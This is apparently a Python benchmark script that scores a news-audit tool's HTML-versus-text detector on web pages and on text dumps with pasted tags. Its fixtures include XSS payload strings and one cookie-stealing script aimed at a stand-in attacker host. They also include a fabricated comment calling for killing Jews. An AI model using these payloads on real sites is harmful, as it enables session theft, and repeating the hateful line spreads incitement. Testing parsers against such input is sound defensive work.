"""How often the loader takes HTML for HTML and a text dump with pasted tags for text.

The reliability probe of 2026-12-03 (finding F4) showed a dump whose reader
comment pastes embed code being parsed as HTML, losing its comment section.
This measures ``newsaudit.io.sniff.looks_like_html`` against the test it
replaced (``tag_heavy``: a marker and three tags in the first 5,000 characters)
on two labelled halves:

* HTML: the full pages of Mozilla Readability's test pages and trafilatura's
  benchmark, and fragments cut from them without ``<html>``/``<body>``: the
  inner HTML of ``<body>`` (scripts and styles removed), the element with the
  most ``<p>`` children, the same paragraphs joined by ``<br>`` as old CMSs
  write them, and a few minimal fragments.
* Text: the canonical dump and the FakeNewsCorpus sample dumps, as they are
  and with tags pasted at random places (seeded): a "design" set of snippets
  the thresholds were chosen on, an "unseen" set written after they were
  fixed, the same dumps with single newlines between paragraphs, and the
  probe's two repros.

Pages are read from the tarballs in memory; nothing is written besides ``--out``.

Run: ``python -m benchmarks.html_detection --data ../shared/data [--out docs/eval/html_detection.md]``
"""

from __future__ import annotations

import argparse
import random
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from lxml import etree
from lxml import html as lxml_html

import newsaudit
from benchmarks.anatomy_fnc import CSV_PATH, read_records
from benchmarks.common import emit
from benchmarks.html_extraction import load_corpus
from benchmarks.readability_pages import load_pages
from newsaudit.errors import InputError
from newsaudit.io.loader import decode_bytes
from newsaudit.io.sniff import looks_like_html, tag_heavy

EVAL_DATE = "2026-12-03"
SEED = 13
CANONICAL = Path(newsaudit.__file__).resolve().parent / "examples" / "syria-repost-with-comments.txt"

#: Pasted markup the thresholds were chosen on.
DESIGN_SNIPPETS = (
    '<div class="x"><a href="https://example.org/v">video</a></div>',
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/abc123" frameborder="0" '
    "allowfullscreen></iframe>",
    '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">They lied again. Share before it is deleted!</p>'
    '&mdash; Patriot (@patriot) <a href="https://twitter.com/patriot/status/1">May 1, 2017</a></blockquote>'
    '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
    "<script>alert(1)</script>",
    "<b>read this</b>",
    '<a href="https://example.org/proof">proof here</a>',
    '<img src="https://example.org/x.png" alt="chart">',
    "<p>quoted paragraph</p>",
    "<br>",
    '<div style="display:none">hidden</div>',
    '<span class="highlight">important</span>',
    '<script src="https://example.org/embed.js"></script>',
)
#: Pasted markup written after the thresholds were fixed, to check them on something new.
UNSEEN_SNIPPETS = (
    '<div class="fb-post" data-href="https://www.facebook.com/page/posts/1"><div class="fb-xfbml-parse-ignore">'
    '<blockquote cite="https://www.facebook.com/page/posts/1"><p>Wake up people!!</p>Posted by '
    '<a href="https://www.facebook.com/page">Page</a> on <a href="https://www.facebook.com/page/posts/1">'
    "Monday</a></blockquote></div></div>",
    '<blockquote class="instagram-media" data-instgrm-version="14"><div><a href="https://www.instagram.com/p/x/">'
    "View this post on Instagram</a></div></blockquote> <script async src=\"//www.instagram.com/embed.js\"></script>",
    "<table><tr><td>Votes</td><td>60</td></tr><tr><td>Against</td><td>40</td></tr></table>",
    "The attacker typed <script>document.location='https://evil.example/?c='+document.cookie</script> into the box",
    "<!-- start of quote",
    "<p>a paragraph whose tag is never closed",
    "<ul><li>first point<li>second point</ul>",
    '<a href="https://example.org/a"><img src="https://example.org/b.jpg"></a>',
    "<i>sic</i>",
    "<h2>UPDATE</h2>",
)
PROBE_PASTED = (
    "Senate passes the bill\n\nWASHINGTON (Reuters) - The Senate passed the bill on Tuesday, officials said. "
    "The vote was 60 to 40 after a long debate.\n\nThe bill now goes to the House, where leaders said they "
    'would take it up next week.\n\n2 thoughts on "Senate passes the bill"\n\n  1. John says:\n    Embed code: '
    '<div class="x"><a href="https://example.org/v">video</a></div>\n\n  2. Mary says:\n    Thanks John, I agree.\n'
)
_PAYLOADS = (
    "<script>alert('S1')</script>", "\"><img src=x onerror=alert('S2')>", "'><svg/onload=alert('S3')>",
    "javascript:alert('S4')", "</style><script>alert('S5')</script>", "</title><script>alert('S6')</script>",
    "<a href=\"javascript:alert('S7')\">click</a>", '<iframe src="https://evil.example/S8"></iframe>',
    '<img src="https://evil.example/S9.png">', '<link rel=stylesheet href="https://evil.example/S10.css">',
    "--><script>alert('S11')</script><!--", '<base href="https://evil.example/">',
)


def probe_injection_dump() -> str:
    """The probe's ``inj_dump.txt`` (case 2.1): payloads in title, body, byline and comments."""
    x, every = _PAYLOADS, " ".join(_PAYLOADS)
    para = ("MOSCOW (Reuters) - Russia said on Tuesday it would target U.S.-backed fighters in Syria if provoked, "
            "officials said, according to a statement. ")
    return (f"{every} Russia will target fighters\n\n{para} {x[0]} {x[1]}\n\n{para} See {x[3]} and "
            f"https://evil.example/S12 and {x[6]}\n\n{para} {x[4]} {x[8]}\n\nReporting by {x[1]}; Editing by {x[5]}"
            f'\n\n3 thoughts on "{x[0]}"\n\n  1. {x[1]} says:\n    The Jews run the banks {x[0]} {x[2]} kill them '
            f"all {x[6]} https://evil.example/S13 javascript:alert('S14')\n\n    1. {x[10]} says:\n      @{x[1]} I "
            f"agree {x[7]} {x[9]}\n\n  2. <b onmouseover=alert('S15')>bob</b> says:\n    {every}\n")


MINIMAL_FRAGMENTS = (
    "<p>x</p><p>y</p>",
    "<div><p>Hello</p><p>World</p></div>",
    "<p>One paragraph.<p>Another paragraph.",
    "<h1>Title</h1><p>The body of the story, in one paragraph.</p>",
    "<ul><li>first<li>second</ul><p>After the list.</p>",
    "<article><h2>Headline</h2><p>First.</p><p>Second, with <a href='https://example.org'>a link</a>.</p></article>",
    "<table><tr><td>a</td><td>b</td></tr></table><p>Caption text.</p>",
    "<div class='post'>\n  <p>\n    Pretty-printed paragraph.\n  </p>\n\n  <p>\n    And another.\n  </p>\n</div>\n",
)


@dataclass
class Group:
    """Texts of one kind, all with the same right answer."""

    name: str
    is_html: bool
    texts: list[str] = field(default_factory=list)
    old_right: int = 0
    new_right: int = 0
    seconds: float = 0.0


# -- the HTML half -----------------------------------------------------------------------
def _decoded(raw: bytes, name: str) -> str:
    try:
        return decode_bytes(raw, name)[0]
    except InputError:
        return raw.decode("utf-8", "replace")


def real_pages(data: Path) -> tuple[list[str], list[str]]:
    """Full pages: Readability's test pages and trafilatura's benchmark."""
    readability = [_decoded(tp.source, tp.name) for tp in load_pages(data)]
    trafilatura = [_decoded(raw, item["file"]) for _, item, raw in load_corpus(data) if raw is not None]
    return readability, trafilatura


def _serialise(el: etree._Element, with_tail: bool = True) -> str:
    return etree.tostring(el, encoding="unicode", method="html", with_tail=with_tail)


def fragments(pages: list[str]) -> tuple[list[str], list[str], list[str]]:
    """Body inner HTML, the paragraph-richest element, and its paragraphs joined by <br> — no <html>/<body>."""
    bodies, articles, broken = [], [], []
    parser = lxml_html.HTMLParser(encoding="utf-8", remove_comments=True)
    for page in pages:
        try:
            doc = lxml_html.document_fromstring(page.encode("utf-8"), parser=parser)
        except (etree.ParserError, ValueError):
            continue
        body = doc.find("body")
        if body is None:
            continue
        for code in body.xpath(".//script|.//style"):
            code.drop_tree()
        inner = (body.text or "") + "".join(_serialise(child) for child in body)
        if inner.strip():
            bodies.append(inner)
        best = max(body.iter("div", "article", "section", "main"),
                   key=lambda el: sum(1 for c in el if c.tag == "p"), default=None)
        paras = [c for c in best if c.tag == "p"] if best is not None else []
        if len(paras) >= 2:
            articles.append(_serialise(best, with_tail=False))
            inner_paras = [(p.text or "") + "".join(_serialise(c) for c in p) for p in paras]
            broken.append("<br />\n<br />\n".join(inner_paras))
    return bodies, articles, broken


# -- the text half -----------------------------------------------------------------------
def paste(text: str, snippets: tuple[str, ...], count: int, rng: random.Random) -> str:
    """``count`` snippets put at the end of a paragraph, on a line of their own, or inside a sentence."""
    paras = text.split("\n\n")
    for _ in range(count):
        snippet = rng.choice(snippets)
        i = rng.randrange(len(paras))
        where = rng.choice(("end", "own", "inside"))
        if where == "end":
            paras[i] = f"{paras[i]} {snippet}"
        elif where == "own":
            paras.insert(i + 1, snippet)
        else:
            words = paras[i].split(" ")
            cut = rng.randrange(len(words) + 1)
            paras[i] = " ".join([*words[:cut], snippet, *words[cut:]])
    return "\n\n".join(paras)


def dumps(data: Path) -> list[str]:
    canonical = CANONICAL.read_text(encoding="utf-8")
    return [canonical, *(r.text for r in read_records(data / CSV_PATH))]


def build_groups(data: Path) -> list[Group]:
    rng = random.Random(SEED)
    readability, trafilatura = real_pages(data)
    bodies, articles, broken = fragments(readability + trafilatura)
    plain = dumps(data)
    groups = [
        Group("HTML: Readability test pages (full)", True, readability),
        Group("HTML: trafilatura benchmark pages (full)", True, trafilatura),
        Group("HTML: `<body>` inner HTML, no `<html>`/`<body>`", True, bodies),
        Group("HTML: paragraph-richest element alone", True, articles),
        Group("HTML: its paragraphs joined by `<br />`", True, broken),
        Group("HTML: minimal fragments (`<p>x</p><p>y</p>`, ...)", True, list(MINIMAL_FRAGMENTS)),
        Group("Text: dumps without tags", False, plain),
    ]
    for count in (1, 3, 10):
        groups.append(Group(f"Text: dumps + {count} pasted snippet(s), design set", False,
                            [paste(t, DESIGN_SNIPPETS, count, rng) for t in plain]))
    for count in (1, 3, 10):
        groups.append(Group(f"Text: dumps + {count} pasted snippet(s), unseen set", False,
                            [paste(t, UNSEEN_SNIPPETS, count, rng) for t in plain]))
    groups.append(Group("Text: single-newline dumps + 3 snippets (both sets)", False,
                        [paste(t, DESIGN_SNIPPETS + UNSEEN_SNIPPETS, 3, rng).replace("\n\n", "\n") for t in plain]))
    groups.append(Group("Text: the probe's pasted.txt and inj_dump.txt", False,
                        [PROBE_PASTED, probe_injection_dump()]))
    return groups


# -- scoring -----------------------------------------------------------------------------
def score(groups: list[Group], detector: Callable[[str], bool] = looks_like_html) -> None:
    for group in groups:
        for text in group.texts:
            group.old_right += tag_heavy(text) == group.is_html
            start = time.perf_counter()
            group.new_right += detector(text) == group.is_html
            group.seconds += time.perf_counter() - start


def _pct(right: int, n: int) -> str:
    return f"{right}/{n} ({100 * right / n:.1f}%)" if n else "n/a"


def _totals(groups: list[Group], is_html: bool) -> Iterator[str]:
    half = [g for g in groups if g.is_html == is_html]
    n = sum(len(g.texts) for g in half)
    yield _pct(sum(g.old_right for g in half), n)
    yield _pct(sum(g.new_right for g in half), n)


def render(groups: list[Group], data: Path) -> str:
    lines = [
        "## HTML or text: detection of pasted tags (issue 13, finding F4)",
        "",
        f"- Date: {EVAL_DATE}; data: `{data}` (Readability test pages, trafilatura benchmark, FakeNewsCorpus "
        f"sample, the canonical page); snippets pasted with seed {SEED}.",
        "- Old: a marker (`<div `, `<p>`, ...) and three tags in the first 5,000 characters, or a doctype. "
        "New: the same gate, then a page that opens as a document is HTML, and anything else is HTML only "
        "when most of its prose sits inside closed elements, or tags break its prose more than twice as "
        "often as newlines alone do (a blank line, or a newline after a paragraph-long line ending a "
        "sentence) (`newsaudit.io.sniff`).",
        "- Right = called HTML for the HTML half, text for the text half. Texts both miss on the HTML half fail "
        "the old gate (no marker in the first 5,000 characters), kept on purpose: a text called text before "
        "still audits exactly as before.",
        "- The thresholds were set on the design snippets. The unseen set was scored once with an earlier "
        "version of the rule (k = 1, 3, 10: 97.6%, 96.8%, 84.1%) and its misses were read before the break "
        "counting took its present form, so it is no longer strictly unseen.",
        "",
        "| group | n | old right | new right | new ms/text |",
        "|---|---:|---:|---:|---:|",
    ]
    for g in groups:
        n = len(g.texts)
        ms = f"{1000 * g.seconds / n:.2f}" if n else "n/a"
        lines.append(f"| {g.name} | {n} | {_pct(g.old_right, n)} | {_pct(g.new_right, n)} | {ms} |")
    html_old, html_new = _totals(groups, True)
    text_old, text_new = _totals(groups, False)
    lines += [f"| **all HTML** | | {html_old} | {html_new} | |",
              f"| **all text** | | {text_old} | {text_new} | |", ""]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--data", type=Path, required=True, help="shared data dir")
    parser.add_argument("--out", type=Path, help="markdown file to write")
    args = parser.parse_args(argv)
    needed = [args.data / "mozilla_readability_testpages", args.data / "trafilatura_eval", args.data / CSV_PATH]
    missing = [str(p) for p in needed if not p.exists()]
    if missing:
        print(f"error: missing {', '.join(missing)}", file=sys.stderr)
        return 2
    groups = build_groups(args.data)
    score(groups)
    emit(render(groups, args.data), args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
